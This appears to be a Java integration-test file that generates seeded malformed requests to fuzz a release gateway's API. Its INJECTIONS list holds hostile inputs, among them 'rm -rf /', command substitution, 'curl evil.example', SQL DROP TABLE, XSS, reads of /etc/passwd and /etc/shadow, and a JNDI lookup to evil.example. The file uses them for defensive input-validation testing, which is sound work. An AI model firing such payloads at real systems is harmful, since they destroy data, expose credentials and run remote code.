package io.relops.gateway.it;

import io.relops.testkit.TestCredentials;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.UUID;
import java.util.regex.Pattern;

/**
 * A seeded generator of requests that are invalid by construction, for the gateway's POST endpoints:
 * malformed JSON, wrong types, huge bodies, deep nesting, injection strings, odd unicode, wrong
 * content types, bad CloudEvents headers and attributes, forged actors. The same seed gives the
 * same requests.
 */
final class MalformedRequests {

    /** One request: what it tries, where it goes, its headers and body. */
    record Case(String kind, String path, Map<String, String> headers, byte[] body) {
        @Override
        public String toString() {
            String text = new String(body, 0, Math.min(body.length, 200), StandardCharsets.UTF_8);
            return kind + " POST " + path + " " + headers + " body(" + body.length + ")=" + text;
        }
    }

    private static final Pattern VERSION = Pattern.compile("^[A-Za-z0-9][A-Za-z0-9._+-]{0,63}$");
    static final List<String> INJECTIONS = List.of(
            "1.0; rm -rf /",
            "$(id)",
            "`reboot`",
            "1.0 && curl evil.example",
            "' OR '1'='1",
            "1'; drop table idempotency_key; --",
            "<script>alert(1)</script>",
            "../../../etc/passwd",
            "${jndi:ldap://evil.example/a}",
            "#{7*7}",
            "{{7*7}}",
            "%00",
            "1.0\n2.0",
            "1.0\r\nX-Injected: yes",
            "\\\\server\\share",
            "|cat /etc/shadow",
            "*)(uid=*))(|(uid=*",
            "1.0/../../x");
    static final List<String> ODD_UNICODE = List.of(
            "sh\u043ep", // Cyrillic o
            "shop\u200b", // zero-width space
            "\u202eshop", // right-to-left override
            "sho\u0301p", // combining accent
            "\ud83d\ude80", // rocket
            "\ufeffshop", // byte order mark
            "shop\u0000",
            "\u00a0shop",
            "\uffff",
            "１.０.０", // full-width digits
            "sh\u00f6p",
            "\u0130stanbul");
    private static final List<String> CONTENT_TYPES = List.of(
            "text/plain",
            "application/xml",
            "application/x-www-form-urlencoded",
            "multipart/form-data; boundary=xyz",
            "application/octet-stream",
            "image/png",
            "application/json; charset=ebcdic-not-a-charset",
            "foo/bar/baz",
            "application/",
            ";;;");
    /** Content types a binary-mode event may not have (its data is JSON; structured mode is JSON too). */
    private static final List<String> EVENT_CONTENT_TYPES = List.of(
            "text/plain",
            "application/xml",
            "application/x-www-form-urlencoded",
            "multipart/form-data; boundary=xyz",
            "application/octet-stream",
            "image/png",
            "foo/bar/baz",
            "application/",
            ";;;");

    private static final List<String> ACTIONS = List.of("approve", "reject", "promote", "abort", "rollback");

    private final Random random;
    private final String operator;
    private final String admin;

    MalformedRequests(long seed, String operator, String admin) {
        this.random = new Random(seed);
        this.operator = operator;
        this.admin = admin;
    }

    Case next() {
        int target = random.nextInt(10);
        if (target < 4) {
            return release();
        }
        if (target < 6) {
            return action();
        }
        return event();
    }

    // ---- POST /api/releases

    private Case release() {
        String token = random.nextBoolean() ? operator : admin;
        switch (random.nextInt(9)) {
            case 0:
                return json("release/truncated-json", "/api/releases", token, truncated(validRelease()));
            case 1:
                return json("release/garbage", "/api/releases", token, garbage());
            case 2:
                return json("release/wrong-type", "/api/releases", token, wrongType(validReleaseFields()));
            case 3:
                return json("release/injection", "/api/releases", token, withField(validReleaseFields(), injection()));
            case 4:
                return json(
                        "release/odd-unicode", "/api/releases", token, withField(validReleaseFields(), oddUnicode()));
            case 5:
                return json("release/huge", "/api/releases", token, huge(validRelease()));
            case 6:
                return json("release/deep", "/api/releases", token, deep());
            case 7:
                return new Case(
                        "release/content-type",
                        "/api/releases",
                        headers(token, pick(CONTENT_TYPES)),
                        validRelease().getBytes(StandardCharsets.UTF_8));
            default:
                return json("release/not-in-catalog", "/api/releases", token, notInCatalog());
        }
    }

    private String validRelease() {
        return object(validReleaseFields());
    }

    private Map<String, Object> validReleaseFields() {
        Map<String, Object> fields = new LinkedHashMap<>();
        fields.put("application", "shop");
        fields.put("version", "1." + random.nextInt(100) + ".0");
        fields.put("environment", random.nextBoolean() ? "prod" : "staging");
        if (random.nextBoolean()) {
            fields.put("strategy", random.nextBoolean() ? "blue-green" : "canary");
        }
        return fields;
    }

    /** application, version or environment (string fields) as a value no string can be bound from. */
    private String wrongType(Map<String, Object> fields) {
        String field = pick(List.of("application", "version", "environment"));
        List<String> values = List.of("[]", "[\"shop\"]", "{}", "{\"a\":1}", "null", "[[1,2],[3]]");
        fields.put(field, new Raw(pick(values)));
        return object(fields);
    }

    private String withField(Map<String, Object> fields, String bad) {
        fields.put(pick(List.of("application", "version", "environment", "strategy")), bad);
        return object(fields);
    }

    private String notInCatalog() {
        Map<String, Object> fields = validReleaseFields();
        switch (random.nextInt(4)) {
            case 0 -> fields.put("application", "app-" + random.nextInt(1_000_000));
            case 1 -> fields.put("environment", "env-" + random.nextInt(1_000_000));
            case 2 -> fields.put("strategy", pick(List.of("rolling", "BLUE-GREEN", "", "canary ")));
            default -> fields.remove(pick(List.of("application", "version", "environment")));
        }
        return object(fields);
    }

    // ---- POST /api/releases/{id}/{action}

    private Case action() {
        String id = random.nextInt(5) == 0
                ? pick(List.of("not-a-uuid", "1", "%00", "..%2F..", "%F0%9F%9A%80", "00000000-0000-0000-0000"))
                : UUID.randomUUID().toString();
        String path = "/api/releases/" + id + "/" + pick(ACTIONS);
        String token = random.nextBoolean() ? operator : admin;
        switch (random.nextInt(6)) {
            case 0:
                return json(
                        "action/truncated-json", path, token, truncated("{\"reason\":\"because\",\"emergency\":true}"));
            case 1:
                return json("action/garbage", path, token, garbage());
            case 2:
                return json(
                        "action/wrong-type",
                        path,
                        token,
                        pick(List.of(
                                "{\"reason\":[1]}",
                                "{\"emergency\":{}}",
                                "{\"comment\":{\"a\":[]}}",
                                "[1,2,3]",
                                "\"text\"")));
            case 3:
                return json("action/huge", path, token, huge("{\"reason\":\"x\"}"));
            case 4:
                return json("action/deep", path, token, deep());
            default:
                // a well-formed body for a release deploy-service does not know: 404, nothing published
                return json(
                        "action/unknown-release",
                        "/api/releases/" + UUID.randomUUID() + "/" + pick(ACTIONS),
                        token,
                        "{\"reason\":\""
                                + pick(INJECTIONS)
                                        .replace("\\", "\\\\")
                                        .replace("\"", "\\\"")
                                        .replace("\n", "\\n")
                                        .replace("\r", "\\r")
                                + "\",\"comment\":\"ok\"}");
        }
    }

    // ---- POST /api/events

    private Case event() {
        boolean asAdmin = random.nextBoolean();
        String token = asAdmin ? admin : operator;
        String actor = TestCredentials.name(asAdmin ? "admin" : "operator");
        int kind = random.nextInt(12);
        Map<String, Object> data = releaseData(actor);
        Map<String, String> ce = ceHeaders();
        switch (kind) {
            case 0:
                ce.remove(pick(List.of("ce-specversion", "ce-id", "ce-type", "ce-source")));
                return binary("event/missing-attribute", token, ce, object(data));
            case 1:
                ce.put(
                        pick(List.of("ce-specversion", "ce-time", "ce-source", "ce-releaseid")),
                        pick(List.of("2.0", "yesterday", "::::", "not a uuid", "", " ", "1.0; rm -rf /")));
                // keep the event invalid even where an odd value is a legal attribute: a wrong version too
                data.put("version", pick(INJECTIONS));
                return binary("event/bad-attribute", token, ce, object(data));
            case 2:
                ce.put(
                        "ce-type",
                        pick(List.of(
                                "io.relops.nope",
                                "io.relops.health.failed",
                                "io.relops.release.approved",
                                "io.relops.deployment.ready",
                                "com.example.other",
                                "")));
                return binary("event/type", token, ce, object(data));
            case 3:
                data.put(pick(List.of("version", "application", "environment", "releaseId")), pick(INJECTIONS));
                return binary("event/schema", token, ce, object(data));
            case 4:
                data.put("requestedBy", "someone-else-" + random.nextInt(1000));
                return binary("event/forged-actor", token, ce, object(data));
            case 5:
                ce.put("ce-source", "/relops/" + pick(List.of("deploy", "gateway", "audit")));
                return binary("event/reserved-source", token, ce, object(data));
            case 6:
                return binary("event/truncated-data", token, ce, truncated(object(data)));
            case 7: {
                Map<String, String> headers = headers(token, pick(EVENT_CONTENT_TYPES));
                headers.putAll(ce);
                return new Case(
                        "event/content-type",
                        "/api/events",
                        headers,
                        object(data).getBytes(StandardCharsets.UTF_8));
            }
            case 8:
                return structured("event/structured-truncated", token, truncated(structuredEvent(data)));
            case 9: {
                String event = structuredEvent(data);
                String mutation = pick(List.of("\"specversion\":\"1.0\"", "\"id\":\"", "\"type\":\"", "\"source\":\""));
                return structured(
                        "event/structured-missing",
                        token,
                        event.replace(mutation, "\"x" + random.nextInt(9) + "\":\""));
            }
            case 10:
                return structured("event/structured-huge", token, huge(structuredEvent(data)));
            default: {
                // HTTP header values are ASCII: the odd application goes in the data only
                data.put("application", pick(ODD_UNICODE));
                return binary("event/odd-unicode", token, ce, object(data));
            }
        }
    }

    private Map<String, Object> releaseData(String actor) {
        Map<String, Object> data = new LinkedHashMap<>();
        data.put("releaseId", UUID.randomUUID().toString());
        data.put("application", "shop");
        data.put("version", "2." + random.nextInt(100) + ".0");
        data.put("environment", "prod");
        data.put("requestedBy", actor);
        return data;
    }

    private Map<String, String> ceHeaders() {
        Map<String, String> ce = new LinkedHashMap<>();
        ce.put("ce-specversion", "1.0");
        ce.put("ce-id", UUID.randomUUID().toString());
        ce.put("ce-type", "io.relops.release.requested");
        ce.put("ce-source", "urn:fuzz");
        ce.put("ce-subject", "shop");
        return ce;
    }

    private String structuredEvent(Map<String, Object> data) {
        return "{\"specversion\":\"1.0\",\"id\":\"" + UUID.randomUUID()
                + "\",\"type\":\"io.relops.release.requested\",\"source\":\"urn:fuzz\",\"subject\":\"shop\","
                + "\"datacontenttype\":\"application/json\",\"data\":" + object(data) + "}";
    }

    private Case binary(String kind, String token, Map<String, String> ce, String body) {
        Map<String, String> headers = headers(token, "application/json");
        headers.putAll(ce);
        return new Case(kind, "/api/events", headers, body.getBytes(StandardCharsets.UTF_8));
    }

    private Case structured(String kind, String token, String body) {
        return structured(kind, token, body.getBytes(StandardCharsets.UTF_8));
    }

    private Case structured(String kind, String token, byte[] body) {
        return new Case(kind, "/api/events", headers(token, "application/cloudevents+json"), body);
    }

    // ---- building blocks

    private Case json(String kind, String path, String token, String body) {
        return json(kind, path, token, body.getBytes(StandardCharsets.UTF_8));
    }

    private Case json(String kind, String path, String token, byte[] body) {
        return new Case(kind, path, headers(token, "application/json"), body);
    }

    private Map<String, String> headers(String token, String contentType) {
        Map<String, String> headers = new LinkedHashMap<>();
        headers.put("Authorization", "Bearer " + token);
        headers.put("Content-Type", contentType);
        if (random.nextInt(4) == 0) {
            headers.put("Idempotency-Key", "fuzz-" + random.nextInt(50));
        }
        return headers;
    }

    /** A proper prefix of a JSON object: never valid JSON. */
    private String truncated(String json) {
        return json.substring(0, random.nextInt(json.length() - 1));
    }

    private byte[] garbage() {
        byte[] bytes = new byte[1 + random.nextInt(200)];
        random.nextBytes(bytes);
        bytes[0] = pick(List.of(
                (byte) '<', (byte) '#', (byte) '%', (byte) 0xff, (byte) 0xc3, (byte) '}', (byte) ']', (byte) 'x'));
        return bytes;
    }

    /** More than the 64 KiB limit, up to 1 MiB, a valid prefix and then filler. */
    private byte[] huge(String json) {
        int size = 64 * 1024 + 1 + random.nextInt(1024 * 1024 - 64 * 1024);
        StringBuilder body = new StringBuilder(size);
        body.append(json, 0, json.length() - 1).append(",\"pad\":\"");
        while (body.length() < size - 2) {
            body.append("abcdefghijklmnopqrstuvwxyz0123456789");
        }
        return body.append("\"}").toString().getBytes(StandardCharsets.UTF_8);
    }

    private String deep() {
        int depth = 100 + random.nextInt(20_000);
        String open = random.nextBoolean() ? "[" : "{\"a\":";
        String close = open.equals("[") ? "]" : "}";
        return "{\"application\":" + open.repeat(depth) + "1" + close.repeat(depth) + "}";
    }

    private String injection() {
        String value = pick(INJECTIONS);
        if (VERSION.matcher(value).matches()) {
            throw new IllegalStateException("injection string '" + value + "' would be a valid version");
        }
        return value;
    }

    private String oddUnicode() {
        return pick(ODD_UNICODE);
    }

    private <T> T pick(List<T> values) {
        return values.get(random.nextInt(values.size()));
    }

    /** A JSON value written as is. */
    private record Raw(String json) {}

    private static String object(Map<String, Object> fields) {
        List<String> members = new ArrayList<>();
        fields.forEach((name, value) -> members.add("\"" + name + "\":" + value(value)));
        return "{" + String.join(",", members) + "}";
    }

    private static String value(Object value) {
        if (value instanceof Raw raw) {
            return raw.json();
        }
        StringBuilder out = new StringBuilder("\"");
        for (char c : value.toString().toCharArray()) {
            if (c == '"' || c == '\\') {
                out.append('\\').append(c);
            } else if (c < 0x20) {
                out.append(String.format("\\u%04x", (int) c));
            } else {
                out.append(c);
            }
        }
        return out.append('"').toString();
    }
}
